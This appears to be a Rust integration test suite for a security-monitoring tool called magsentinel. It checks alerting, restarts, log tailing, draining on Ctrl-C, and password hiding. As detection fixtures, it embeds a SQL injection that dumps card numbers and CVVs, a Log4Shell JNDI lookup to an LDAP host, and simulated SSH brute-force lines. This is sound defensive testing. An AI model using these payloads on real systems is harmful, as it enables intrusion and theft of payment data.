//! `up` on a machine of somebody's: what it prints can be typed, its server may die, real logs are
//! watched, two run at once, and Ctrl-C drains.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test reports by panicking"
)]

use async_nats::ConnectOptions;
use magsentinel_bus_schema::Timestamp;
use magsentinel_runtime::clock;
use magsentinel_tests::{
    has_drained,
    server::Server,
    up::{Shell, Up},
    wait_for,
};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};
use std::{
    fs::{File, OpenOptions},
    io::Write,
    path::Path,
    time::Duration,
};

const INJECTION: &str =
    "SELECT * FROM users WHERE name = '' UNION SELECT card, cvv FROM payments --'";

/// Statement of somebody that is alerted on.
fn attack(user: &str) -> Value {
    json!({"text": INJECTION, "user": user})
}

/// The line of an alert that says something.
async fn alert(up: &Up, about: &str) -> String {
    let levels = ["LOW ", "MEDIUM ", "HIGH ", "CRITICAL "];
    let is = |line: &str| levels.iter().any(|l| line.starts_with(l)) && line.contains(about);
    up.line(about, is).await
}

/// What the command at the end of an alert's line prints in the same shell.
async fn typed(shell: &Shell, line: &str) -> String {
    let (_, typed) = line.split_once(" → ").unwrap();
    wait_for("the logbook to have it", async || {
        let out = shell.command("sh").args(["-c", typed]).output().unwrap();
        out.status.success().then(|| String::from_utf8(out.stdout).unwrap())
    })
    .await
}

/// Every role has said, last of all, that it has drained.
fn all_drained(data: &Path) {
    let logs: Vec<_> = std::fs::read_dir(data.join("logs")).unwrap().flatten().collect();
    assert!(logs.len() > 8, "{logs:?}");
    for log in logs {
        let text = std::fs::read_to_string(log.path()).unwrap();
        assert!(has_drained(&text), "{}: {text}", log.path().display());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_run_at_once_and_the_command_in_each_alert_of_theirs_works_when_typed() {
    let dir = tempfile::tempdir().unwrap();
    let shell = Shell::below(dir.path());
    let mut first = shell.up(&["--speed", "600x"]);
    let mut second = shell.up(&["--no-scenario", "--data", "its other mesh"]);
    second.ready().await;
    second.ingest("sql", &attack("mallory")).await;
    let other = alert(&second, "mallory").await;
    let chain = alert(&first, "SQL injection followed by data exfiltration").await;
    assert_ne!(first.url().await, second.url().await);

    let shown = typed(&shell, &chain).await;
    assert!(shown.contains("shop_app") && !shown.contains("mallory"), "{shown}");
    let shown = typed(&shell, &other).await;
    assert!(shown.contains("mallory") && !shown.contains("shop_app"), "{shown}");
    assert!(!chain.contains("--set") && !chain.contains("--mesh"), "{chain}");
    assert!(other.contains("--mesh './its other mesh'"), "{other}");
    // One line each: nothing is continued on a line of its own.
    let lines = first.printed();
    assert!(lines.iter().all(|line| !line.starts_with(' ')), "{lines:#?}");
    first.line("an outcome", |line| line.starts_with("OUTCOME ")).await;
    first.line("an analysis", |line| line.starts_with("ANALYSIS ")).await;

    // Other commands find the mesh, too.
    let mut status = shell.command(magsentinel_tests::magsentinel());
    let out = status.args(["status", "--output", "json"]).output().unwrap();
    let told: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(told["services"].as_array().unwrap().len() > 8, "{told}");

    first.interrupt();
    second.interrupt();
    assert_eq!((first.wait().code(), second.wait().code()), (Some(0), Some(0)));
    all_drained(&shell.here.join("its other mesh"));
    // The logbook is still found, though nothing runs.
    let shown = typed(&shell, &chain).await;
    assert!(shown.contains("shop_app"), "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn three_logs_are_watched_and_an_interrupt_drains_all_roles() {
    let dir = tempfile::tempdir().unwrap();
    let shell = Shell::below(dir.path());
    let formats = ["postgres", "sshd", "access"];
    let file = |format: &str| shell.here.join(format!("{format}.log"));
    let tails = formats.map(|format| {
        File::create(file(format)).unwrap();
        format!("{format}={}", file(format).display())
    });
    let args: Vec<&str> = tails.iter().flat_map(|tail| ["--tail", tail]).collect();
    let mut up = shell.up(&[&args[..], &["--data", "mesh"]].concat());
    up.ready().await;
    up.line("the last log", |line| line.starts_with("watching access=")).await;
    let append = |format: &str, lines: &[String]| {
        let mut log = OpenOptions::new().append(true).open(file(format)).unwrap();
        log.write_all((lines.join("\n") + "\n").as_bytes()).unwrap();
    };
    let now = clock::now();
    append("postgres", &[statement(now, INJECTION)]);
    append("access", &[request(now, "/search?q=%24%7Bjndi:ldap://198.51.100.1/a%7D")]);
    let guesses: Vec<String> = (0..30).map(|n| login(now, n)).collect();
    append("sshd", &guesses);
    for about in ["shop_app", "203.0.113.7", "203.0.113.8"] {
        let line = alert(&up, about).await;
        assert!(line.contains(" incident show "), "{line}");
    }
    up.interrupt();
    assert_eq!(up.wait().code(), Some(0));
    assert_eq!(up.printed().last().map(String::as_str), Some("draining"));
    all_drained(&shell.here.join("mesh"));
}

/// A line of PostgreSQL's JSON log.
fn statement(now: Timestamp, text: &str) -> String {
    let at = now.to_string().replace('T', " ").replace('Z', " UTC");
    json!({
        "timestamp": at, "user": "shop_app", "dbname": "shop", "pid": 4711,
        "remote_host": "10.0.0.5", "remote_port": 55312, "session_id": "6740a1b2.1267",
        "line_num": 3, "ps": "SELECT", "session_start": at, "vxid": "3/12", "txid": 0,
        "error_severity": "LOG", "message": format!("statement: {text}"),
        "application_name": "web", "backend_type": "client backend", "query_id": 0,
    })
    .to_string()
}

/// A line of nginx's access log in JSON.
fn request(now: Timestamp, target: &str) -> String {
    json!({
        "time_iso8601": now.to_string(), "remote_addr": "203.0.113.7",
        "request": format!("GET {target} HTTP/1.1"), "status": "200", "body_bytes_sent": "12",
        "request_time": "0.005", "http_user_agent": "Mozilla/5.0 Firefox/128.0",
    })
    .to_string()
}

/// A wrong password in a system log.
fn login(now: Timestamp, number: u64) -> String {
    let at = now.minus(Duration::from_secs(2 * (30 - number)));
    format!(
        "{at} web1 sshd[{}]: Failed password for root from 203.0.113.8 port 40022 ssh2",
        800 + number
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_dies_is_started_again_where_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let shell = Shell::below(dir.path());
    let mut up = shell.up(&["--no-scenario", "--data", "mesh"]);
    up.ready().await;
    let before = up.server().unwrap();
    kill_process(before, Signal::KILL).unwrap();
    wait_for("the server to be started again", async || {
        up.said().into_iter().find(|line| line.contains("nats-server ended"))
    })
    .await;
    let after = up.server().unwrap();
    assert_ne!(before, after);
    // Where it was: this address is the one that was printed at first.
    up.ingest("sql", &attack("mallory")).await;
    alert(&up, "mallory").await;
    up.interrupt();
    assert_eq!(up.wait().code(), Some(0));
}

/// Whether this process runs, as what it was: its number may be somebody else's by now.
fn runs(pid: Pid, line: &str) -> bool {
    let now = std::fs::read(format!("/proc/{}/cmdline", pid.as_raw_nonzero())).unwrap_or_default();
    String::from_utf8_lossy(&now).replace('\0', " ") == line
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_up_leaves_nothing_behind_and_nothing_in_the_way_of_the_next() {
    let dir = tempfile::tempdir().unwrap();
    let shell = Shell::below(dir.path());
    let start = || shell.up(&["--no-scenario", "--data", "mesh"]);
    let mut killed = start();
    killed.ready().await;
    let (server, children) = (killed.server().unwrap(), killed.children());
    let (_, line) = children.iter().find(|(pid, _)| *pid == server).unwrap();
    killed.ingest("sql", &attack("mallory")).await;
    alert(&killed, "mallory").await;
    killed.kill();
    // At once, on the same folder: two servers never have the same streams open.
    let mut next = start();
    next.url().await;
    assert!(!runs(server, line), "{line}");
    next.ready().await;
    next.ingest("sql", &attack("eve")).await;
    alert(&next, "eve").await;
    let children = [children, next.children()].concat();
    assert!(children.iter().filter(|(pid, line)| runs(*pid, line)).count() > 8);
    next.kill();
    wait_for("everything to end by itself", async || {
        let left: Vec<_> = children.iter().filter(|(pid, line)| runs(*pid, line)).collect();
        left.is_empty().then_some(())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_named_server_goes_before_a_program_and_its_password_is_shown_to_nobody() {
    let dir = tempfile::tempdir().unwrap();
    let shell = Shell::below(dir.path());
    // A port that a file names is one, and there are ten roles.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let file = format!("health: {{listen: \"127.0.0.1:{port}\"}}\n");
    std::fs::write(shell.here.join("magsentinel.yaml"), file).unwrap();
    let user = "authorization { user: mesh, password: \"s3cr@t\" }";
    let server = Server::start_with(&dir.path().join("nats"), user);
    let url = server.url().replace("nats://", "nats://mesh:s3cr%40t@");

    let mut command = shell.command(magsentinel_tests::magsentinel());
    command.env("MAGSENTINEL_NATS_SERVER", "/no/such/program");
    let mut up = Up::start(command.args(["up", "--no-scenario", "--nats", &url]));
    up.ready().await;
    let children = up.children();
    assert!(children.len() > 8, "{children:?}");
    for (_, line) in children {
        assert!(line.contains(" run ") && !line.contains("s3cr"), "{line}");
    }
    let user = ConnectOptions::with_user_and_password("mesh".to_owned(), "s3cr@t".to_owned());
    let client = user.connect(server.url()).await.unwrap();
    let js = async_nats::jetstream::new(client);
    let body = attack("mallory").to_string();
    js.publish("mag.default.ingest.sql", body.into()).await.unwrap().await.unwrap();
    let line = alert(&up, "mallory").await;
    assert!(typed(&shell, &line).await.contains("mallory"));
    up.interrupt();
    assert_eq!(up.wait().code(), Some(0));
    let all = [up.printed(), up.said()].concat().join("\n");
    assert!(!all.contains("s3cr"), "{all}");
}
